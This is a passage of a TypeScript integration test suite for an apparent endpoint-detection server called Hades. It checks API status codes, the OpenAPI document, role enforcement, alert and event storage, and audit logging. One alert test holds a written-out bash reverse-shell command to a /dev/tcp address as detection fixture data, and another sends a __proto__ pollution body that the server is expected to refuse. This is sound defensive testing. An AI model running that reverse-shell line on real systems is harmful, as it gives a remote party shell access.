    assert.ok((await server.ok('GET', '/api/v1/tokens/api')).tokens.some((t: AnyEvent) => t['id'] === apiCreated['id']), 'the token is stored');
    const tasks = (await created('/api/v1/tasks', { agents: [identity.agentId], kind: 'inventory', params: { table: 'users' } }))['tasks'] as AnyEvent[];
    assert.equal(tasks.length, 1);
    assert.equal((await server.ok('GET', `/api/v1/tasks/${tasks[0]!['id']}`)).id, tasks[0]!['id']);
    const query = await created('/api/v1/queries', { sql: 'SELECT 1', agents: [identity.agentId], timeout_s: 1 });
    assert.equal((await server.ok('GET', `/api/v1/queries/${query['id']}`)).id, query['id']);
    const suppression = await created('/api/v1/suppressions', { rule: '*', host: await quietAgent(), for: '1m', reason: 'status test' });
    assert.ok((await server.ok('GET', '/api/v1/suppressions')).suppressions.some((x: AnyEvent) => x['id'] === suppression['id']));
    // A group's configuration: 201 when the group had none, 200 when it replaces one.
    const group = `created-${Date.now()}`;
    const first = await server.api('PUT', `/api/v1/groups/${group}/config`, { body: { yaml: 'agent: { heartbeat_s: 30 }\n' } });
    assert.equal(first.status, 201, first.text);
    assert.equal(first.body.version, 1);
    const second = await server.api('PUT', `/api/v1/groups/${group}/config`, { body: { yaml: 'agent: { heartbeat_s: 20 }\n' } });
    assert.equal(second.status, 200, second.text);
    assert.equal(second.body.version, 2);
  });

  it('answers 200 to actions that create nothing, and to enrollment (agents check for 200)', async () => {
    const identity = await server.enrollAgent();
    const other = await server.enrollAgent();
    const token = await server.enrollmentToken();
    for (const [method, route, body] of [
      ['POST', `/api/v1/agents/${identity.agentId}/renew`, undefined],
      ['PUT', `/api/v1/agents/${identity.agentId}/tags`, { team: 'a' }],
      ['POST', '/api/v1/rules/reload', undefined],
      ['POST', `/api/v1/agents/${other.agentId}/revoke`, undefined],
      ['DELETE', `/api/v1/tokens/enrollment/${token.id}`, undefined],
    ] as const) {
      const response = await server.api(method, route, body === undefined ? {} : { body });
      assert.equal(response.status, 200, `${method} ${route}: HTTP ${response.status} ${response.text}`);
    }
  });

  it('answers 405 with an Allow header and a coded error to a known path with a method it does not take', async () => {
    for (const [method, route, allow] of [
      ['DELETE', '/api/v1/agents', 'GET, HEAD'],
      ['PUT', '/api/v1/health', 'GET, HEAD'],
      ['POST', '/api/v1/agents/ag_0000000000000000', 'GET, HEAD'],
      ['GET', '/api/v1/agents/ag_0000000000000000/renew', 'POST'],
      ['PATCH', '/api/v1/tasks', 'GET, HEAD, POST'],
      ['POST', '/api/v1/groups/web/config', 'GET, HEAD, PUT, DELETE'],
      ['PUT', '/api/v1/tokens/api/0000000000000000', 'DELETE'],
      ['GET', '/api/v1/rules/reload', 'POST'],
      ['OPTIONS', '/api/v1/alerts', 'GET, HEAD'],
    ] as const) {
      const response = await server.api(method, route);
      assertError(response, 405, 'HADES_ERR_API_METHOD_NOT_ALLOWED', `${method} ${route}`);
      assert.equal(response.headers['allow'], allow, `${method} ${route}: Allow`);
      assert.match(response.body.message, new RegExp(`does not take ${method}`));
    }
    // Without a token too: the path and its methods are public (the OpenAPI document lists them).
    const anonymous = await server.api('DELETE', '/api/v1/agents', { token: null });
    assertError(anonymous, 405, 'HADES_ERR_API_METHOD_NOT_ALLOWED', 'no token');
    assert.equal(anonymous.headers['allow'], 'GET, HEAD');
  });

  it('answers 415 HADES_ERR_API_UNSUPPORTED_MEDIA_TYPE to a body that is not JSON, and creates nothing', async () => {
    const before = (await server.ok('GET', '/api/v1/tokens/api')).tokens.length as number;
    const json = JSON.stringify({ name: 'media-type', role: 'admin' });
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/xml', 'multipart/form-data; boundary=x', 'application/octet-stream']) {
      const response = await server.api('POST', '/api/v1/tokens/api', { raw: type.startsWith('application/x-www') ? 'name=media-type&role=admin' : json, headers: { 'content-type': type } });
      assertError(response, 415, 'HADES_ERR_API_UNSUPPORTED_MEDIA_TYPE', type);
      assert.match(response.body.message, /application\/json/);
    }
    assertError(await server.api('PUT', '/api/v1/groups/web/config', { raw: 'yaml: ""', headers: { 'content-type': 'application/yaml' } }), 415, 'HADES_ERR_API_UNSUPPORTED_MEDIA_TYPE', 'PUT yaml');
    assertError(await server.api('PATCH', '/api/v1/alerts/nope', { raw: 'status=resolved', headers: { 'content-type': 'text/plain' } }), 415, 'HADES_ERR_API_UNSUPPORTED_MEDIA_TYPE', 'PATCH text');
    assert.equal((await server.ok('GET', '/api/v1/tokens/api')).tokens.length, before, 'no token was created');
    // JSON with a charset is JSON.
    const charset = await server.api('POST', '/api/v1/tokens/api', { raw: json, headers: { 'content-type': 'application/json; charset=utf-8' } });
    assert.equal(charset.status, 201, charset.text);
    // In UTF-8 only: another charset said is refused, not read as UTF-8; bytes that are not UTF-8 are refused, not stored as U+FFFD.
    const utf16 = await server.api('POST', '/api/v1/tokens/api', { raw: json, headers: { 'content-type': 'application/json; charset=utf-16' } });
    assertError(utf16, 415, 'HADES_ERR_API_UNSUPPORTED_MEDIA_TYPE', 'utf-16');
    assert.match(utf16.body.message, /a JSON body in utf-16 is not supported: send UTF-8/);
    const latin1 = await server.api('POST', '/api/v1/tokens/api', { raw: Buffer.concat([Buffer.from('{"name": "caf'), Buffer.from([0xe9]), Buffer.from('", "role": "admin"}')]), headers: { 'content-type': 'application/json' } });
    assertError(latin1, 400, 'HADES_ERR_API_INVALID_REQUEST', 'latin-1');
    assert.match(latin1.body.message, /the body is not UTF-8/);
    const quoted = await server.api('POST', '/api/v1/tokens/api', { raw: JSON.stringify({ name: 'media-type-quoted', role: 'admin' }), headers: { 'content-type': 'application/json; charset="UTF-8"' } });
    assert.equal(quoted.status, 201, quoted.text);
  });

  it('answers 400 HADES_ERR_API_INVALID_REQUEST to a JSON body that does not parse', async () => {
    for (const [raw, what] of [
      ['{"name": "x", "role": ', 'truncated'],
      ['{"name": "x", "role": "admin"} trailing', 'trailing text'],
      ["{'name': 'x', 'role': 'admin'}", 'single quotes'],
      ['', 'empty'],
    ] as const) {
      const response = await server.api('POST', '/api/v1/tokens/api', { raw, headers: { 'content-type': 'application/json' } });
      assertError(response, 400, 'HADES_ERR_API_INVALID_REQUEST', what);
      assert.match(response.body.message, what === 'empty' ? /^the body is empty/ : /^the body is not valid JSON/, what);
    }
  });

  it('refuses a body with a __proto__ key (400, saying so) and a body over 1 MiB (413 HADES_ERR_API_TOO_LARGE)', async () => {
    const poisoned = await server.api('POST', '/api/v1/tokens/api', { raw: '{"name": "x", "role": "read-only", "__proto__": {"role": "admin"}}', headers: { 'content-type': 'application/json' } });
    assertError(poisoned, 400, 'HADES_ERR_API_INVALID_REQUEST', '__proto__');
    assert.match(poisoned.body.message, /__proto__/);
    const large = await server.api('PUT', '/api/v1/groups/web/config', { body: { yaml: `# ${'x'.repeat(1024 * 1024)}\n` } });
    assertError(large, 413, 'HADES_ERR_API_TOO_LARGE', 'over 1 MiB');
  });
});

describe('the OpenAPI document', () => {
  it('is an OpenAPI 3 document listing every route with its responses', async () => {
    const doc = (await server.ok('GET', '/api/v1/openapi.json', { token: null })) as AnyEvent;
    assert.match(doc.openapi, /^3\.\d+\.\d+$/);
    assert.equal(typeof doc.info.title, 'string');
    assert.equal(doc.info.version, AGENT_VERSION);
    assert.deepEqual(doc.components.securitySchemes.bearer, { type: 'http', scheme: 'bearer' });
    const expected: Record<string, string[]> = {
      '/api/v1/health': ['get'],
      '/api/v1/enroll/ca': ['get'],
      '/api/v1/enroll': ['post'],
      '/api/v1/agents': ['get'],
      '/api/v1/agents/{id}': ['get'],
      '/api/v1/agents/{id}/revoke': ['post'],
      '/api/v1/agents/{id}/renew': ['post'],
      '/api/v1/agents/{id}/tags': ['put'],
      '/api/v1/groups/{name}/config': ['get', 'put'],
      '/api/v1/tasks': ['get', 'post'],
      '/api/v1/tasks/{id}': ['get'],
      '/api/v1/events': ['get'],
      '/api/v1/tokens/enrollment': ['get', 'post'],
      '/api/v1/tokens/enrollment/{id}': ['delete'],
      '/api/v1/tokens/api': ['get', 'post'],
      '/api/v1/tokens/api/{id}': ['delete'],
      '/api/v1/audit': ['get'],
      '/api/v1/openapi.json': ['get'],
    };
    for (const [route, methods] of Object.entries(expected)) {
      assert.ok(doc.paths[route], `${route} is listed`);
      for (const method of methods) assert.ok(doc.paths[route][method], `${method.toUpperCase()} ${route} is listed`);
    }
    const methods = new Set(['get', 'put', 'post', 'delete', 'options', 'head', 'patch', 'trace']);
    for (const [route, item] of Object.entries(doc.paths as Record<string, AnyEvent>)) {
      assert.match(route, /^\//);
      const templated = [...route.matchAll(/\{(\w+)\}/g)].map((m) => m[1]);
      for (const [method, operation] of Object.entries(item)) {
        if (!methods.has(method)) continue;
        const where = `${method.toUpperCase()} ${route}`;
        assert.equal(typeof operation.summary, 'string', `${where} has a summary`);
        assert.ok(operation.responses?.['200'] || operation.responses?.['201'], `${where} documents 200 or 201`);
        if (['post', 'put', 'patch', 'delete'].includes(method)) assert.ok(operation.responses['415'], `${where} documents 415`);
        for (const status of Object.keys(operation.responses)) {
          assert.match(status, /^(\d{3}|default)$/);
          assert.equal(typeof operation.responses[status].description, 'string', `${where} ${status} has a description`);
        }
        for (const parameter of operation.parameters ?? []) {
          assert.ok(['query', 'path', 'header', 'cookie'].includes(parameter.in), `${where}: parameter ${parameter.name} in ${parameter.in}`);
          assert.equal(typeof parameter.name, 'string');
          if (parameter.in === 'path') assert.equal(parameter.required, true, `${where}: path parameter ${parameter.name} is required`);
          // A query parameter with a default may be left out.
          if (parameter.in === 'query' && parameter.schema?.default !== undefined) assert.notEqual(parameter.required, true, `${where}: query parameter ${parameter.name} has a default, so it is optional`);
        }
        for (const name of templated) assert.ok((operation.parameters ?? []).some((p: AnyEvent) => p.in === 'path' && p.name === name), `${where} declares {${name}}`);
      }
    }
    // Public routes say so; the others take the bearer token.
    assert.deepEqual(doc.paths['/api/v1/enroll'].post.security, []);
    assert.deepEqual(doc.paths['/api/v1/health'].get.security, []);
    assert.equal(doc.paths['/api/v1/agents'].get.security, undefined);
    assert.deepEqual(doc.security, [{ bearer: [] }]);
    // Every $ref points inside the document.
    const text = JSON.stringify(doc);
    for (const match of text.matchAll(/"\$ref":"#\/([^"]+)"/g)) {
      let node: any = doc;
      for (const part of match[1]!.split('/')) node = node?.[part.replace(/~1/g, '/').replace(/~0/g, '~')];
      assert.ok(node !== undefined, `$ref #/${match[1]} resolves`);
    }
    // Creations document 201 and not 200; a PUT that creates or replaces documents both.
    for (const route of ['/api/v1/tokens/api', '/api/v1/tokens/enrollment', '/api/v1/tasks', '/api/v1/queries', '/api/v1/suppressions', '/api/v1/alerts/{id}/comments']) {
      assert.deepEqual(Object.keys(doc.paths[route].post.responses).filter((s) => s.startsWith('2')), ['201'], `POST ${route}`);
    }
    assert.deepEqual(Object.keys(doc.paths['/api/v1/groups/{name}/config'].put.responses).filter((s) => s.startsWith('2')), ['200', '201']);
    for (const [route, method] of [['/api/v1/enroll', 'post'], ['/api/v1/agents/{id}/revoke', 'post'], ['/api/v1/agents/{id}/renew', 'post'], ['/api/v1/rules/reload', 'post'], ['/api/v1/alerts/{id}', 'patch'], ['/api/v1/agents', 'get']] as const) {
      assert.deepEqual(Object.keys(doc.paths[route][method].responses).filter((s) => s.startsWith('2')), ['200'], `${method.toUpperCase()} ${route}`);
    }
    assert.equal(doc.paths['/api/v1/agents'].get.responses['415'], undefined, 'a GET takes no body');
    const search = doc.paths['/api/v1/events'].get.parameters.map((p: AnyEvent) => p.name).sort();
    assert.deepEqual(search, ['action', 'agent', 'cursor', 'filter', 'host', 'limit', 'order', 'since', 'until']);
  });
  it('gives the schema of every success answer, and says that `next` is absent on the last page', async () => {
    const doc = (await server.ok('GET', '/api/v1/openapi.json', { token: null })) as AnyEvent;
    const missing: string[] = [];
    let checked = 0;
    // A schema that says something of its value: a type, a reference, or a choice of them.
    const says = (schema: AnyEvent | undefined): boolean => schema !== undefined && ['type', '$ref', 'anyOf', 'oneOf', 'allOf', 'const', 'enum'].some((key) => key in schema);
    for (const [route, item] of Object.entries<AnyEvent>(doc.paths)) {
      for (const [method, operation] of Object.entries<AnyEvent>(item)) {
        for (const [status, response] of Object.entries<AnyEvent>(operation.responses ?? {})) {
          if (!status.startsWith('2')) continue;
          checked++;
          if (!says(response.content?.['application/json']?.schema)) missing.push(`${method.toUpperCase()} ${route} ${status}`);
        }
      }
    }
    assert.ok(checked >= 36, `${checked} success answers`);
    assert.deepEqual(missing, [], 'success answers without a schema');
    for (const route of ['/api/v1/events', '/api/v1/alerts']) {
      const schema = doc.paths[route].get.responses['200'].content['application/json'].schema;
      assert.ok(!(schema.required ?? []).includes('next'), `${route}: next is optional`);
      assert.match(schema.properties.next.description, /absent on the last page/);
    }
    // Events are open documents: the schema keeps every field they have.
    assert.equal(doc.paths['/api/v1/events'].get.responses['200'].content['application/json'].schema.properties.events.items.additionalProperties, true);
  });

  it('says the role each route needs, and the server holds to it: a token of the role below gets 403, none 401', async () => {
    const doc = (await server.api('GET', '/api/v1/openapi.json', { token: null })).body;
    const below = { 'read-only': undefined, analyst: (await apiToken('read-only', 'openapi-read-only')).token, admin: (await apiToken('analyst', 'openapi-analyst')).token } as const;
    let checked = 0;
    for (const [route, operations] of Object.entries<AnyEvent>(doc.paths)) {
      for (const [method, operation] of Object.entries<AnyEvent>(operations)) {
        const what = `${method.toUpperCase()} ${route}`;
        if (Array.isArray(operation['security']) && operation['security'].length === 0) {
          assert.equal(operation['description'], undefined, `${what} is public`);
          continue;
        }
        const role = /^Needs the role (read-only|analyst|admin) or higher/.exec(String(operation['description']))?.[1] as keyof typeof below | undefined;
        assert.ok(role, `${what} says its role: ${operation['description']}`);
        const url = route.replace(/\{[a-z_]+\}/g, 'x');
        const body = operation['requestBody'] ? { body: {} } : {};
        assertError(await server.api(method.toUpperCase(), url, { token: null, ...body }), 401, 'HADES_ERR_API_UNAUTHENTICATED', `${what} without a token`);
        const lower = below[role];
        if (lower !== undefined) assertError(await server.api(method.toUpperCase(), url, { token: lower, ...body }), 403, 'HADES_ERR_API_FORBIDDEN', `${what} with the role below ${role}`);
        checked++;
      }
    }
    assert.ok(checked >= 30, `${checked} routes`);
    assert.match(doc.paths['/api/v1/tasks'].post.description, /restart_plugin and log_level tasks need admin/);
    assert.match(doc.paths['/api/v1/tokens/api'].post.description, /^Needs the role admin or higher/);
  });
});

describe('answers keep every field (they are written with their schemas, which drop what they do not name)', () => {
  it('gives an event back whole, with fields no schema names (inventory row columns), as it was stored', async () => {
    const identity = await server.enrollAgent();
    const prefix = `whole-${Date.now()}`;
    // The ingest checks events against their schema; an inventory row is open: any column, any name.
    const row = { 'Odd Column': 'é\u2028"', ratio: 1.5, nothing: null, flag: false, 'x.y': 'dotted' };
    const [event] = makeEvents(1, { prefix, extra: (e) => (e['hades'].inventory.row = row) });
    await deliver(identity, [event!]);
    const { events } = await server.ok('GET', '/api/v1/events', { query: { since: '10m', agent: identity.agentId, filter: `event.id=${prefix}-0` } });
    assert.equal(events.length, 1);
    assert.deepEqual(events[0].hades.inventory.row, row);
    const db = new Database(path.join(server.dataDir, 'hades.db'), { readonly: true });
    try {
      const stored = db.prepare<[string, string], { event: string }>('SELECT event FROM events WHERE event_id = ? AND agent_id = ?').get(`${prefix}-0`, identity.agentId);
      assert.deepEqual(events[0], JSON.parse(stored!.event), 'the answer is the stored event');
    } finally {
      db.close();
    }
  });

  it('gives an alert back as it is stored (events, process and ancestry, host with CMDB entry and reported name, triage, comments, revision), by id and in lists', async () => {
    const identity = await server.enrollAgent();
    const prefix = `whole-alert-${Date.now()}`;
    const shell = `bash -i >& /dev/tcp/203.0.113.77/4444 0>&1`;
    // Two reverse shells of one process: the second folds into the alert of the first (count 2).
    const events = makeEvents(2, {
      action: 'exec',
      prefix,
      host: `${hostname}-claimed`,
      extra: (event) => {
        const args = ['bash', '-c', shell];
        event['process'] = { ...event['process'], name: 'bash', executable: '/usr/bin/bash', args, args_count: args.length, command_line: args.join(' ') };
      },
    });
    await deliver(identity, events);
    const listedNow = async () => ((await server.ok('GET', '/api/v1/alerts', { query: { since: '10m', host: identity.agentId, limit: 1000 } })) as { alerts: AnyEvent[] }).alerts;
    const raised = await waitUntil('the folded alert', async () => (await listedNow()).find((a) => a['count'] === 2 && JSON.stringify(a['events']).includes(prefix)));
    const id = raised['id'] as string;
    const analyst = await apiToken('analyst', 'whole-alert');
    await server.ok('PATCH', `/api/v1/alerts/${id}`, { token: analyst.token, body: { status: 'acknowledged', assignee: 'ana' } });
    await server.ok('POST', `/api/v1/alerts/${id}/comments`, { token: analyst.token, body: { text: 'é\u2028"<b>' } });
    const byId = (await server.ok('GET', `/api/v1/alerts/${id}`)) as AnyEvent;
    const listed = (await listedNow()).find((a) => a['id'] === id)!;
    const db = new Database(path.join(server.dataDir, 'hades.db'), { readonly: true });
    let stored: AnyEvent;
    let comments: AnyEvent[];
    let history: AnyEvent[];
    try {
      const row = db.prepare<[string], AnyEvent>('SELECT doc, status, assignee, count, last_seen, revision FROM alerts WHERE id = ?').get(id)!;
      // The document as raised (and folded into), its triage state and count from their columns.
      stored = { ...JSON.parse(row['doc']), status: row['status'], assignee: row['assignee'], count: row['count'], last_seen: new Date(row['last_seen']).toISOString(), revision: row['revision'] };
      comments = db.prepare<[string], AnyEvent>('SELECT id, time, author, text FROM alert_comments WHERE alert_id = ? ORDER BY id').all(id).map((c) => ({ ...c, time: new Date(c['time']).toISOString() }));
      // Its triages, from their audit records.
      history = db
        .prepare<[string], AnyEvent>("SELECT at, actor, details FROM audit_log WHERE target = ? AND action = 'alert.triage' ORDER BY id")
        .all(id)
        .map((a) => {
          const d = JSON.parse(a['details']);
          return { time: new Date(a['at']).toISOString(), actor: a['actor'], status: d.status, assignee: d.assignee, from: d.from, revision: d.revision };
        });
    } finally {
      db.close();
    }
    // What this test is about is there to be compared.
    assert.equal(stored['events'].length, 2);
    assert.ok(stored['process'].ancestors.length > 0, 'the ancestry');
    assert.equal(typeof stored['host'].cmdb?.owner, 'string', 'the CMDB entry');
    assert.equal(stored['host'].reported_name, `${hostname}-claimed`);
    assert.deepEqual([stored['status'], stored['assignee'], stored['revision'], comments.length], ['acknowledged', 'ana', 2, 1]);
    const compare = (served: AnyEvent, expected: AnyEvent, how: string) => {
      for (const key of new Set([...Object.keys(expected), ...Object.keys(served)])) assert.deepEqual(served[key], expected[key], `${how}: ${key}`);
    };
    assert.equal(history.length, 1);
    // No other alert is about this process tree.
    compare(byId, { ...stored, comments, history, related: [] }, `GET /api/v1/alerts/${id}`);
    compare(listed, stored, 'GET /api/v1/alerts');
  });

  it('answers every field stored of API tokens and audit entries, and reads agents and tasks as lists give them', async () => {
    const identity = await server.enrollAgent();
    const lasting = (await server.ok('POST', '/api/v1/tokens/api', { body: { name: 'every-field', role: 'analyst', ttl: '1d' } })) as { id: string; token: string };
    await server.ok('GET', '/api/v1/agents', { token: lasting.token });
    await server.ok('POST', '/api/v1/tasks', { body: { agents: [identity.agentId], kind: 'inventory', params: { table: 'os_version' } } });
    const { tokens } = await server.ok('GET', '/api/v1/tokens/api');
    const { entries } = await server.ok('GET', '/api/v1/audit', { query: { limit: 10_000 } });
    const db = new Database(path.join(server.dataDir, 'hades.db'), { readonly: true });
    try {
      for (const row of db.prepare<[], AnyEvent>('SELECT * FROM api_tokens').all()) {
        const answered = tokens.find((t: AnyEvent) => t.id === row.id);
        assert.ok(answered, row.id);
        for (const column of ['id', 'name', 'role', 'created_by', 'created_at', 'last_used_at', 'revoked_at', 'expires_at']) {
          assert.equal(column in answered, row[column] !== null, `token ${row.id}: ${column} ${row[column]}`);
        }
      }
      assert.ok(tokens.find((t: AnyEvent) => t.id === lasting.id).expires_at);
      const rows = db.prepare<[], AnyEvent>('SELECT * FROM audit_log ORDER BY id DESC').all();
      assert.equal(entries.length, rows.length);
      for (const [i, row] of rows.entries()) {
        const entry = entries[i];
        assert.deepEqual(
          { id: entry.id, actor: entry.actor, actor_id: entry.actor_id ?? null, action: entry.action, target: entry.target ?? null, details: entry.details ?? null, at: Date.parse(entry.at) },
          { id: row.id, actor: row.actor, actor_id: row.actor_id, action: row.action, target: row.target, details: row.details === null ? null : JSON.parse(row.details), at: row.at },
        );
      }
    } finally {
      db.close();
    }
    const { agents } = await server.ok('GET', '/api/v1/agents');
    for (const agent of agents.slice(0, 20)) assert.deepEqual(await server.ok('GET', `/api/v1/agents/${agent.id}`), agent);
    const { tasks } = await server.ok('GET', '/api/v1/tasks', { query: { limit: 20 } });
    assert.ok(tasks.length > 0);
    const withoutResult = ({ result: _result, result_omitted: _omitted, ...rest }: AnyEvent) => rest;
    for (const task of tasks) assert.deepEqual(withoutResult(await server.ok('GET', `/api/v1/tasks/${task.id}`)), withoutResult(task));
  });
});

describe('admin actions and the audit log', () => {
  it('records token creation, revocation and group configuration, without any secret', async () => {
    const apiCreated = await apiToken('read-only', 'audited');
    const enrollCreated = await server.enrollmentToken('2h', 'audited-group');
    const identity = await server.enrollAgent();
    await server.ok('POST', `/api/v1/agents/${identity.agentId}/revoke`);
    await server.ok('PUT', '/api/v1/groups/audited-group/config', { body: { yaml: 'agent: { heartbeat_s: 30 }\n' } });
    await server.ok('DELETE', `/api/v1/tokens/api/${apiCreated.id}`);
    const { entries } = (await server.ok('GET', '/api/v1/audit', { query: { since: '5m', limit: 1000 } })) as { entries: AnyEvent[] };
    const find = (action: string, target: string) => entries.find((e) => e['action'] === action && e['target'] === target);
    const tokenApi = find('token.api.create', apiCreated.id);
    assert.ok(tokenApi, 'token.api.create');
    assert.deepEqual(tokenApi['details'], { name: 'audited', role: 'read-only' });
    assert.equal(tokenApi['actor'], 'bootstrap-admin');
    assert.match(tokenApi['at'], /^\d{4}-\d{2}-\d{2}T/);
    assert.ok(find('token.enrollment.create', enrollCreated.id), 'token.enrollment.create');
    assert.equal(find('token.enrollment.create', enrollCreated.id)!['details'].group, 'audited-group');
    assert.ok(find('agent.revoke', identity.agentId), 'agent.revoke');
    assert.equal(find('group.config', 'audited-group')?.['details'].version, 1);
    assert.deepEqual(find('group.config', 'audited-group')?.['details'], { version: 1, sha256: createHash('sha256').update('agent: { heartbeat_s: 30 }\n').digest('hex'), bytes: 27 }, 'what ran, by digest');
    assert.ok(find('token.api.revoke', apiCreated.id), 'token.api.revoke');
    // Newest first.
    const ids = entries.map((e) => e['id'] as number);
    assert.deepEqual(ids, [...ids].sort((a, b) => b - a));
    // An enrollment is audited with the token that let the agent in.
    const enrolled = find('agent.enroll', identity.agentId);
    assert.ok(enrolled, 'agent.enroll');
    assert.equal(enrolled['actor'], 'enrollment');
    assert.equal(enrolled['details'].hostname, hostname);
    const text = JSON.stringify(entries);
    for (const secret of [apiCreated.token, enrollCreated.token, server.adminToken]) {
      assert.ok(!text.includes(secret), 'no whole token');
      assert.ok(!text.includes(secret.split('_').slice(2).join('_')), 'no token secret');
    }
  });

  it('says so when an API token was already revoked, and audits the revocation once', async () => {
    const created = await apiToken('read-only', 'revoked-twice');
    assert.deepEqual(await server.ok('DELETE', `/api/v1/tokens/api/${created.id}`), { ok: true });
    assert.deepEqual(await server.ok('DELETE', `/api/v1/tokens/api/${created.id}`), { ok: true, already: true });
    const { entries } = (await server.ok('GET', '/api/v1/audit', { query: { since: '5m', limit: 1000 } })) as { entries: AnyEvent[] };
    assert.equal(entries.filter((e) => e['action'] === 'token.api.revoke' && e['target'] === created.id).length, 1);
  });

  it('makes no admin change that its audit record cannot go with: with the audit log refusing writes, each fails and changes nothing', async () => {
    const identity = await server.enrollAgent();
    const agentId = identity.agentId;
    const spare = await apiToken('read-only', 'unaudited-revoke');
    const enrolling = await server.enrollmentToken('1h');
    await server.ok('PUT', '/api/v1/groups/unaudited-group/config', { body: { yaml: 'agent: { heartbeat_s: 30 }\n' } });
    const state = async () => ({
      agent: await server.ok('GET', `/api/v1/agents/${agentId}`),
      apiTokens: (await server.ok('GET', '/api/v1/tokens/api')).tokens,
      enrollmentTokens: (await server.ok('GET', '/api/v1/tokens/enrollment')).tokens,
      config: await server.ok('GET', '/api/v1/groups/unaudited-group/config'),
      otherConfig: (await server.api('GET', '/api/v1/groups/unaudited-new/config')).status,
    });
    const was = await state();
    const changes: [string, string, object?][] = [
      ['POST', '/api/v1/tokens/api', { name: 'unaudited', role: 'admin' }],
      ['DELETE', `/api/v1/tokens/api/${spare.id}`],
      ['POST', '/api/v1/tokens/enrollment', { ttl: '1h' }],
      ['DELETE', `/api/v1/tokens/enrollment/${enrolling.id}`],
      ['PUT', `/api/v1/agents/${agentId}/tags`, { env: 'unaudited' }],
      ['PUT', `/api/v1/agents/${agentId}/groups`, { groups: ['unaudited-group'] }],
      ['PUT', '/api/v1/groups/unaudited-group/config', { yaml: 'agent: { heartbeat_s: 40 }\n' }],
      ['PUT', '/api/v1/groups/unaudited-new/config', { yaml: 'agent: { heartbeat_s: 40 }\n' }],
      ['DELETE', '/api/v1/groups/unaudited-group/config'],
      ['POST', `/api/v1/agents/${agentId}/renew`],
      ['POST', `/api/v1/agents/${agentId}/revoke`],
    ];
    // Another connection to the server's database makes every audit insert fail.
    const db = new Database(path.join(server.dataDir, 'hades.db'));
    try {
      db.exec("CREATE TRIGGER test_admin_audit_refused BEFORE INSERT ON audit_log BEGIN SELECT RAISE(ABORT, 'the audit log refuses writes (test)'); END");
      for (const [method, route, body] of changes) {
        const refused = await server.api(method, route, body === undefined ? {} : { body });
        assert.ok(refused.status >= 500, `${method} ${route}: HTTP ${refused.status} ${refused.text}`);
        assert.match(refused.body.code, /^HADES_ERR_/);
      }
      db.exec('DROP TRIGGER test_admin_audit_refused');
    } finally {
      db.close();
    }
    const is = await state();
    assert.deepEqual(
      { ...is, agent: { ...is.agent, last_seen: undefined, online: undefined } },
      { ...was, agent: { ...was.agent, last_seen: undefined, online: undefined } },
      'nothing changed without its audit record',
    );
  });

  it('pages back through the audit log with before_id, past any one page', async () => {
    for (let i = 0; i < 3; i++) await apiToken('read-only', `paged-${i}`);
    const all = ((await server.ok('GET', '/api/v1/audit', { query: { limit: 10_000 } })) as { entries: AnyEvent[] }).entries.map((e) => e['id'] as number);
    const paged: number[] = [];
    let before: number | undefined;
    for (;;) {
      const { entries } = (await server.ok('GET', '/api/v1/audit', { query: { limit: 2, ...(before === undefined ? {} : { before_id: before }) } })) as { entries: AnyEvent[] };
      if (entries.length === 0) break;
      paged.push(...entries.map((e) => e['id'] as number));
      before = entries.at(-1)!['id'] as number;
    }
    assert.deepEqual(paged, all);
    assertError(await server.api('GET', '/api/v1/audit', { query: { before_id: 'x' } }), 400, 'HADES_ERR_API_INVALID_REQUEST', 'a before_id that is no id');
    // Filters: by action, by target, by actor (the token's name).
    const created = (await server.ok('GET', '/api/v1/audit', { query: { action: 'token.api.create', limit: 10_000 } })) as { entries: AnyEvent[] };
    assert.ok(created.entries.length >= 3 && created.entries.every((e) => e['action'] === 'token.api.create'), JSON.stringify(created.entries.slice(0, 3)));
    const one = created.entries[0]!;
    const byTarget = (await server.ok('GET', '/api/v1/audit', { query: { target: one['target'] as string } })) as { entries: AnyEvent[] };
    assert.ok(byTarget.entries.length >= 1 && byTarget.entries.every((e) => e['target'] === one['target']));
    const byActor = (await server.ok('GET', '/api/v1/audit', { query: { actor: one['actor'] as string, action: 'token.api.create' } })) as { entries: AnyEvent[] };
    assert.ok(byActor.entries.some((e) => e['id'] === one['id']));
    assert.equal(((await server.ok('GET', '/api/v1/audit', { query: { target: 'no-such-target' } })) as { entries: AnyEvent[] }).entries.length, 0);
    assertError(await server.api('GET', '/api/v1/audit', { query: { target: '' } }), 400, 'HADES_ERR_API_INVALID_REQUEST', 'an empty target');
  });

  it('audits a rules reload that was refused, with the refusal\'s code', async () => {
    const rulesDir = path.join(dir, 'reload-rules');
    mkdirSync(rulesDir, { recursive: true });
    const ruleFile = path.join(rulesDir, 'mine.yaml');
    writeFileSync(ruleFile, 'rules:\n  - id: reload_audited\n    title: A rule of the test\n    severity: low\n    condition: event.action = "exec" and process.name = "reload-audited"\n');
    const other = await TestServer.start({ dataDir: path.join(dir, 'reload-data'), extra: `rules: { dirs: [${JSON.stringify(rulesDir)}] }\n` });
    // hades rules reload: the same route, as an operator runs it.
    const cli = path.join(dir, 'reload-server.yaml');
    other.writeCliConfig(cli);
    try {
      const reloaded = await runHades(['rules', 'reload', '--config', cli]);
      assert.equal(reloaded.status, 0, reloaded.stderr);
      assert.match(reloaded.stdout, /^rules reloaded: \d+ rules \(\d+ enabled\), loaded /);
      writeFileSync(ruleFile, 'rules:\n  - id: reload_audited\n    title: A rule of the test\n    severity: low\n    condition: event.action = "exec" and process.nmae = "x"\n');
      const refused = await other.api('POST', '/api/v1/rules/reload');
      assertError(refused, 400, 'HADES_ERR_RULES_RELOAD', 'a reload with a broken rule');
      const refusedCli = await runHades(['rules', 'reload', '--config', cli]);
      assert.notEqual(refusedCli.status, 0);
      assert.match(refusedCli.stderr, /HADES_ERR_RULES_RELOAD/);
      assert.match(refusedCli.stderr, /mine\.yaml:5/, 'the problem with its file and line');
      const { entries } = (await other.ok('GET', '/api/v1/audit', { query: { since: '5m' } })) as { entries: AnyEvent[] };
      const reloads = entries.filter((e) => e['action'] === 'rules.reload');
      assert.deepEqual(reloads.map((e) => e['details']), [{ refused: 'HADES_ERR_RULES_RELOAD' }, { refused: 'HADES_ERR_RULES_RELOAD' }, undefined]);
    } finally {
      await other.stop();
    }
  });
});

describe('the last admin token', () => {
  it('cannot be revoked (409 HADES_ERR_API_LAST_ADMIN); once another admin exists, it can', async () => {
    const alone = await TestServer.start({ dataDir: path.join(dir, 'last-admin') });
    try {
      const { tokens } = (await alone.ok('GET', '/api/v1/tokens/api')) as { tokens: AnyEvent[] };
      const bootstrap = tokens.find((t) => t['role'] === 'admin' && !t['revoked_at']);
